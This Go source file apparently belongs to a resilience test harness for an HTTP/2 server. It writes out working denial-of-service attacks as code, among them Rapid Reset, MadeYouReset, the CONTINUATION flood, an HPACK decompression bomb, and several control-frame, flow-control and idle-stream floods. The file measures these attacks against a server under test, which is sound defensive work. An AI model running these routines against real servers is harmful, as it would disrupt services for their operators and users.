package main

import (
	"bytes"
	"time"

	"golang.org/x/net/http2"
)

// batch is how many times an attack is written at once.
const batch = 100

// attacks are those that DESIGN.md and the CVEs of HTTP/2 name. The first two are none: they
// show what the requests of the last ones cost in HTTP/1.1.
var attacks = []attack{
	{name: "none: 1,000 requests of HTTP/1.1, not read", connections: 1000, unread: true, spread: 500 * time.Microsecond, version1: "GET /large HTTP/1.1\r\nHost: a\r\n\r\n"},
	{name: "none: 5,000 uploads of HTTP/1.1", connections: 5000, unread: true, spread: 500 * time.Microsecond, version1: "POST /quick HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\n"},
	{name: "Rapid Reset", connections: 4, cut: true, send: times(func(w *attacker) { // CVE-2023-44487
		w.open(true, w.block)
		_ = w.framer.WriteRSTStream(w.stream, http2.ErrCodeCancel)
	})},
	{name: "MadeYouReset by WINDOW_UPDATE", connections: 4, cut: true, send: times(func(w *attacker) { // CVE-2025-8671
		w.open(true, w.block)
		w.increment(w.stream, 0)
	})},
	{name: "MadeYouReset by DATA", connections: 4, cut: true, send: times(func(w *attacker) {
		w.open(true, w.block)
		_ = w.framer.WriteData(w.stream, true, []byte("x"))
	})},
	{name: "MadeYouReset by PRIORITY", connections: 4, cut: true, send: times(func(w *attacker) {
		w.open(true, w.block)
		w.raw(http2.FramePriority, 0, w.stream, make([]byte, 4))
	})},
	{name: "CONTINUATION flood", connections: 4, cut: true, // CVE-2024-27316
		setup: func(w *attacker) {
			w.stream += 2
			_ = w.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: w.stream, BlockFragment: w.block})
		},
		send: times(func(w *attacker) { _ = w.framer.WriteContinuation(w.stream, false, []byte("\x00\x01a\x01b")) })},
	{name: "empty CONTINUATION", connections: 4, cut: true,
		setup: func(w *attacker) {
			w.stream += 2
			_ = w.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: w.stream, BlockFragment: w.block})
		},
		send: times(func(w *attacker) { _ = w.framer.WriteContinuation(w.stream, false, nil) })},
	{name: "HPACK bomb", connections: 4, cut: true, setup: plantBomb, send: func(w *attacker) { w.open(true, w.bomb) }},
	{name: "HPACK table sizes", connections: 4, send: func(w *attacker) { // legal, and each a request
		w.open(true, append([]byte{0x20, 0x3f, 0xe1, 0x1f}, w.block...))
	}},
	{name: "upper case", connections: 4, cut: true, send: times(func(w *attacker) { w.open(true, append(bytes.Clone(w.block), "\x00\x01A\x01b"...)) })},
	{name: "Connection field", connections: 4, cut: true, send: times(func(w *attacker) {
		w.open(true, append(bytes.Clone(w.block), "\x00\x0aconnection\x05close"...))
	})},
	{name: "Content-Length mismatch", connections: 4, cut: true, send: times(func(w *attacker) {
		w.open(false, append(bytes.Clone(w.block), "\x00\x0econtent-length\x015"...))
		_ = w.framer.WriteData(w.stream, true, []byte("x"))
	})},
	{name: "SETTINGS", connections: 4, cut: true, send: times(func(w *attacker) { _ = w.framer.WriteSettings() })},
	{name: "window by SETTINGS", connections: 4, cut: true, setup: func(w *attacker) {
		closeWindows(w)
		openSome(w)
	}, send: times(func(w *attacker) {
		_ = w.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	})},
	{name: "PING", connections: 4, cut: true, send: times(func(w *attacker) { _ = w.framer.WritePing(false, [8]byte{}) })},
	{name: "PRIORITY", connections: 4, cut: true, send: times(func(w *attacker) {
		w.stream += 2
		_ = w.framer.WritePriority(w.stream, http2.PriorityParam{Weight: 1})
	})},
	{name: "empty DATA", connections: 4, cut: true, setup: func(w *attacker) { w.open(false, w.block) },
		send: times(func(w *attacker) { _ = w.framer.WriteData(w.stream, false, nil) })},
	{name: "padding", connections: 4, cut: true, setup: func(w *attacker) { w.open(false, w.block) },
		send: times(func(w *attacker) { _ = w.framer.WriteDataPadded(w.stream, false, nil, make([]byte, 255)) })},
	{name: "WINDOW_UPDATE", connections: 4, cut: true, send: times(func(w *attacker) { w.increment(0, 1) })},
	{name: "unknown frames", connections: 4, cut: true, send: times(func(w *attacker) { w.raw(0x99, 0, 0, nil) })},
	{name: "never reads, PING", connections: 4, unread: true, cut: true, send: times(func(w *attacker) { _ = w.framer.WritePing(false, [8]byte{}) })},
	{name: "never reads, requests", connections: 10, unread: true, sends: 10, pause: 50 * time.Millisecond, setup: func(w *attacker) {
		w.increment(0, 1<<30)
		_ = w.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30})
	}, send: openSome},
	{name: "zero windows", connections: 10, sends: 10, pause: 50 * time.Millisecond, setup: closeWindows, send: openSome},
	{name: "10,000 idle streams", connections: 50, sends: 200, pause: 30 * time.Millisecond, send: func(w *attacker) { w.open(false, w.block) }},
}

// times writes an attack's frames often.
func times(write func(*attacker)) func(*attacker) {
	return func(w *attacker) {
		for range batch {
			write(w)
		}
	}
}

// closeWindows lets no body through.
func closeWindows(w *attacker) {
	_ = w.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
}

// openSome asks for ten large responses.
func openSome(w *attacker) {
	large := get("/large")
	for range 10 {
		w.open(true, large)
	}
}

// plantBomb puts a large entry into the table, by a request, and makes a head that refers
// to it 16,000 times: 64 MB.
func plantBomb(w *attacker) {
	entry := append([]byte{0x40, 1, 'a', 0x7f, 0xc1, 0x1e}, bytes.Repeat([]byte("x"), 4032)...)
	w.open(true, append(bytes.Clone(w.block), entry...))
	w.bomb = append(bytes.Clone(w.block), bytes.Repeat([]byte{0xbe}, 16_000)...)
}
